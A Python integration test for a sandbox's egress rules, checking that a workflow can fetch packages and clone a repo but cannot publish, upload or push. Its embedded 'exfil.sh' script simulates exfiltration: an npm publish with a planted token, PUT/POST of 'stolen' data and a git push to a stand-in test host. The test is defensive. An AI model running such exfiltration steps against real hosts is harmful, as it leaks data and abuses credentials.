"""R44 through `afe up` (the launcher and its four processes, real Docker,
squid, npm, pip and git): a Workspace allows a package registry `read-only`
and a git host `git-fetch` (both the TLS package host of
tests/support/egress_hosts.py, its CA given to afe as AFE_CA_FILE). A
ticket's first step installs, downloads and clones; the next tries to publish,
upload and push. The ticket reaches its approval with the fetches done and
every write refused: nothing but reads reached the origin, the
`egress.denied` event names each refused request, and the signed run record
holds every request, allowed and refused. (The positive control, the same
writes landing without rules, is tests/sandbox/egress/test_r44_egress_rules.py.)"""

from __future__ import annotations

import asyncio
import json
import re
import subprocess
from pathlib import Path

import docker
import pytest

from services._gen.afe.scheduler.v1 import scheduler_pb2 as pb
from services._gen.afe.scheduler.v1 import scheduler_pb2_grpc as rpc
from services.common.provenance import attestation
from services.common.rpc.grpcutil import open_channel
from tests.foundation.launcher_support import base_env, start_afe
from tests.support.egress_hosts import ensure_tools_image, package_host
from tests.support.fakes.git_http import make_bare_repo
from tests.support.npm import needs_npm
from tests.support.sandbox_broker import new_instance
from tests.support.temp_roots import remove_temp_root, temp_root

pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.timeout(600), needs_npm]   # npm and node for the tools image (tests/support/npm.py)

CONFIG = """\
kind: Workspace
name: shop
repo: repos/shop.git
forge: {{type: local}}
sandbox:
  image: {image}
  egress:
    - {{host: {reg}, preset: read-only}}
    - {{host: {git}, preset: git-fetch}}
  egressPrivate: ["{subnet}"]
---
kind: Workflow
name: deps
workspace: shop
nodes:
  - {{id: fetch, run: "bash scripts/fetch.sh", timeout: 300}}
  - {{id: exfil, run: "bash scripts/exfil.sh", needs: [fetch], timeout: 300}}
  - {{id: pr, uses: builtin:open_pr, needs: [exfil]}}
  - {{id: merge, uses: builtin:merge, needs: [pr]}}
"""

FETCH = """\
set -e
mkdir -p /tmp/app && cd /tmp/app
npm install --no-audit --no-fund --registry https://{reg}/ demo-pkg
node -e 'console.log("installed", require("demo-pkg"))' > /workspace/fetched.txt
/opt/py/bin/pip download --no-deps --index-url https://{reg}/simple/ demo-pkg==1.0 -d /tmp/dl
ls /tmp/dl >> /workspace/fetched.txt
git clone -q https://{git}/demo.git /tmp/upstream
git -C /tmp/upstream log --oneline >> /workspace/fetched.txt
"""

EXFIL = """\
mkdir -p /tmp/pub && cd /tmp/pub
printf '{{"name": "demo-pkg", "version": "9.9.9"}}' > package.json
printf '//{reg}/:_authToken=planted-token\\n' > .npmrc
if npm publish --registry https://{reg}/ > /tmp/publish.log 2>&1; then echo publish=landed; else echo publish=refused; fi
python3 - <<'EOF'
import urllib.request, urllib.error
for method in ("PUT", "POST"):
    try:
        urllib.request.urlopen(urllib.request.Request("https://{reg}/upload/stolen", data=b"x", method=method))
        print(method.lower() + "=landed")
    except urllib.error.HTTPError as e:
        print(method.lower() + "=%d" % e.code)
EOF
cd /tmp/upstream && echo stolen > stolen && git add stolen
git -c user.name=t -c user.email=t@t commit -qm exfil
if git push -q origin HEAD:refs/heads/exfil 2>/tmp/push.log; then echo push=landed; else echo push=refused; fi
"""


def _repo(cfg: Path, reg: str, git: str) -> None:
    make_bare_repo(cfg / "repos", "shop.git", {"README": "shop\n", "scripts/fetch.sh": FETCH.format(reg=reg, git=git),
                                               "scripts/exfil.sh": EXFIL.format(reg=reg, git=git)})


async def _records(run_dir: Path, ticket: str) -> list[dict]:
    key = bytes.fromhex((run_dir / "automation.key").read_text().strip())
    async with open_channel(str(run_dir / "scheduler.sock"), key) as ch:
        got = await rpc.SchedulerStub(ch).GetRunRecords(pb.GetTicketRequest(id=ticket))
    return [attestation.unverified_statement(json.loads(r.envelope))["predicate"] for r in got.records]


def test_r44_afe_up_fetches_but_never_publishes_uploads_or_pushes():
    client = docker.from_env()
    image = ensure_tools_image(client)
    inst = new_instance("r44up")
    reg, git = f"registry-{inst}", f"git-{inst}"
    net = client.networks.create(f"afe-test-{inst}", labels={"afe.instance": inst})
    base = temp_root("afe-r44-up-")
    afe = None
    try:
        net.reload()
        subnet = net.attrs["IPAM"]["Config"][0]["Subnet"]
        with package_host(client, net.name, [reg, git], inst, base / "host") as host:
            cfg = base / "cfg"
            cfg.mkdir(parents=True)
            _repo(cfg, reg, git)
            (cfg / "afe.yaml").write_text(CONFIG.format(image=image, reg=reg, git=git, subnet=subnet))
            afe = start_afe(base, base_env(AFE_CA_FILE=str(host.ca.ca_file)), "--egress-network", net.name,
                            "--instance", inst)
            afe.wait_up()
            def cli(*args: str) -> subprocess.CompletedProcess:
                return afe.cli(*args, timeout=400)

            p = cli("ticket", "create", "--workflow", "deps", "--title", "update the dependencies")
            assert p.returncode == 0, p.stdout + p.stderr
            ticket = re.search(r"^created (\S+) ", p.stdout, re.MULTILINE).group(1)
            p = cli("ticket", "watch", ticket, "--until-waiting", "-v")
            out = p.stdout
            assert p.returncode == 6 and "waiting for approval" in out, out + p.stderr + afe.text()[-3000:]
            # the reads worked, every write was refused (what the head holds is what the steps saw)
            head = subprocess.run(["git", "--git-dir", str(cfg / "repos" / "shop.git"), "show",
                                   f"afe/{ticket}:fetched.txt"], capture_output=True, text=True, check=True).stdout
            assert "installed demo-pkg@1.0.0" in head and "demo_pkg-1.0-py3-none-any.whl" in head \
                and "initial" in head, head
            for word in ("publish=refused", "put=403", "post=403", "push=refused"):
                assert word in out, out
            assert "landed" not in out, out
            # the refusals say why: the event, as `afe ticket watch` prints it
            assert re.search(rf"egress refused: {re.escape(reg)} \(\d+\)", out), out
            assert re.search(rf"PUT {re.escape(reg)}/demo-pkg refused \(method; rule read-only\)", out), out
            assert re.search(rf"GET {re.escape(git)}/demo.git/info/refs refused \(path; rule git-fetch\)", out), out
            # nothing but reads reached the origin
            assert [r for r in host.requests(settle=True) if r["method"] not in ("GET", "HEAD")
                    and "git-upload-pack" not in r["path"]] == []
            assert host.git("branch", "--list", "exfil") == ""
            # the signed run record holds every request, allowed and refused, paths as digests
            (record,) = asyncio.run(_records(afe.run_dir, ticket))
            egress = record["egress"]
            assert {(r["host"], r["name"]) for r in egress["rules"]} == {(reg, "read-only"), (git, "git-fetch")}
            reqs = egress["requests"]
            assert any(r["method"] == "GET" and r["host"] == reg and not r["denied"] and r["status"] == 200
                       for r in reqs), reqs
            assert any(r["method"] == "POST" and r["host"] == git and not r["denied"] for r in reqs), reqs
            refused = {(r["method"], r["host"], r["reason"], r["rule"]) for r in reqs if r["denied"]}
            assert {("PUT", reg, "method", "read-only"), ("POST", reg, "method", "read-only"),
                    ("GET", git, "path", "git-fetch")} <= refused, refused
            assert all(len(r["path_sha256"]) == 64 for r in reqs if r["method"] != "CONNECT")
            assert "planted-token" not in json.dumps(record) and "/upload/stolen" not in json.dumps(record)
            # the ticket ends: its sandbox, proxy (with the CA's key) and CA folder go (R12)
            assert cli("ticket", "cancel", ticket).returncode == 0
            assert "ticket cancelled" in cli("ticket", "watch", ticket).stdout
            assert not (afe.run_dir / "egress-ca" / ticket).exists()
            assert not client.containers.list(all=True, filters={"label": f"afe.ticket={ticket}"})
    finally:
        if afe is not None:
            afe.stop()
        # what a failed run left of its ticket (afe up keeps a running ticket's sandbox on purpose)
        for c in client.containers.list(all=True, filters={"label": f"afe.instance={inst}"}):
            c.remove(force=True)
        for n in client.networks.list(filters={"label": f"afe.instance={inst}"}):
            if n.id != net.id:
                n.remove()
        net.remove()
        remove_temp_root(base)
